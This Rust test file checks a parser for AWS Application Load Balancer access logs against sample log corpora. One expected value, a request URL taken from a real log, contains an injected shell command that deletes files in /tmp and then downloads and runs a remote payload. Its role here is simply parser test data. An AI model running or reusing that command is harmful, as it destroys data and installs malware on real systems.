//! Every line of `shared/corpus/alb` either parses or lands in rejects, as MANIFEST.md says.
//! Helpers shared with the other corpus modules live in `main.rs`.

use agsl_formats::{AlbFormat, Decoded};

use crate::{corpus_dir, ints, strings};

fn decode(file: &str) -> Decoded {
    crate::decode_corpus(&AlbFormat, "alb", file)
}

#[test]
fn beats_application_lb_25_field_lines() {
    let d = decode("beats-elb-application-lb-http.log");
    assert_eq!(
        (d.counts.rows, d.counts.rejects, d.counts.skipped_lines),
        (10, 0, 1)
    );
    assert_eq!(ints(&d, "elb_status_code")[..2], [Some(460), Some(504)]);
    assert_eq!(ints(&d, "target_status_code")[0], None);
    assert!(
        strings(&d, "conn_trace_id").iter().all(Option::is_none),
        "25-field layout"
    );
}

#[test]
fn beats_example_lines_reject_the_missing_space() {
    let d = decode("beats-elb-example-alb-http.log");
    assert_eq!((d.counts.rows, d.counts.rejects), (8, 1));
    assert_eq!(d.rejects[0].line, 5);
    assert!(
        d.rejects[0]
            .reason
            .contains("no space after the quoted field"),
        "{}",
        d.rejects[0].reason
    );
    assert!(
        d.rejects[0]
            .raw
            .starts_with(b"wss 2018-07-02T22:23:00.186641Z")
    );
    let kinds = strings(&d, "type");
    assert_eq!(
        kinds[..4],
        [
            Some("http".into()),
            Some("https".into()),
            Some("h2".into()),
            Some("ws".into())
        ]
    );
    // Lines 8-9: unparseable requests keep what is there.
    let urls = strings(&d, "request_url");
    assert_eq!(urls[6].as_deref(), Some("http://www.example.com:80-"));
    assert_eq!(urls[7], None);
    assert_eq!(
        strings(&d, "error_reason")[5].as_deref(),
        Some("LambdaInvalidResponse")
    );
}

#[test]
fn integrations_mixed_file_keeps_only_alb_access_lines() {
    let d = decode("integrations-elb_logs-test-alb.log");
    assert_eq!(
        (d.counts.rows, d.counts.rejects),
        (3, 7),
        "{:#?}",
        d.rejects
    );
    let rejected: Vec<u64> = d.rejects.iter().map(|r| r.line).collect();
    assert_eq!(
        rejected,
        [3, 4, 5, 6, 7, 8, 9],
        "NLB and connection-log lines"
    );
    assert_eq!(
        strings(&d, "request_url")[1].as_deref(),
        Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );
    assert_eq!(
        strings(&d, "classification")[1].as_deref(),
        Some("Acceptable")
    );
    assert_eq!(
        strings(&d, "classification_reason")[1].as_deref(),
        Some("SpaceInUri")
    );
    assert_eq!(
        strings(&d, "target_port_list")[0].as_deref(),
        Some("10.0.0.1:80")
    );
    assert_eq!(
        strings(&d, "request_url")[2].as_deref(),
        Some("http://internal-service-alb.example.com:80-/")
    );
    assert_eq!(
        strings(&d, "conn_trace_id")[2].as_deref(),
        Some("TID_00000000000000000000000000000000")
    );
}

#[test]
fn lnav_samples_with_unquoted_domain_and_cert() {
    let d = decode("lnav-alb_log-samples.log");
    assert_eq!((d.counts.rows, d.counts.rejects), (5, 0));
    assert_eq!(
        strings(&d, "domain_name")[1].as_deref(),
        Some("www.example.com")
    );
    assert_eq!(ints(&d, "client_port")[2], Some(48160));
}

/// VRL's own expectations (Ok/Err per line) hold: agsl is lenient like VRL's non-strict mode.
#[test]
fn vrl_vectors_match_expected_results() {
    let d = decode("vrl-parse_aws_alb_log-tests.log");
    let expect =
        std::fs::read_to_string(corpus_dir("alb").join("vrl-parse_aws_alb_log-tests.expect.tsv"))
            .unwrap();
    let mut expected_ok = 0;
    for row in expect.lines().skip(1) {
        let fields: Vec<&str> = row.split('\t').collect();
        let line: u64 = fields[0].parse().unwrap();
        let rejected = d.rejects.iter().any(|r| r.line == line);
        assert_eq!(fields[1] == "Ok", !rejected, "line {line}");
        expected_ok += u64::from(fields[1] == "Ok");
    }
    assert_eq!(d.counts.rows, expected_ok);
    assert_eq!(d.counts.rows, 13);
    let clients = strings(&d, "client_ip");
    assert_eq!(
        clients[10].as_deref(),
        Some("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc")
    );
    assert_eq!(
        strings(&d, "target_ip")[10].as_deref(),
        Some("fd6d:6bbc:c529:6::face:ed83:f46")
    );
    assert_eq!(
        strings(&d, "request_url")[8].as_deref(),
        Some("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-")
    );
    assert_eq!(
        strings(&d, "conn_trace_id")[11],
        None,
        "line 12 lacks the TID field"
    );
}

#[test]
fn every_corpus_file_is_covered() {
    assert_eq!(
        crate::corpus_files("alb"),
        [
            "beats-elb-application-lb-http.log",
            "beats-elb-example-alb-http.log",
            "integrations-elb_logs-test-alb.log",
            "lnav-alb_log-samples.log",
            "vrl-parse_aws_alb_log-tests.log",
        ],
        "a new corpus file needs a test above"
    );
}
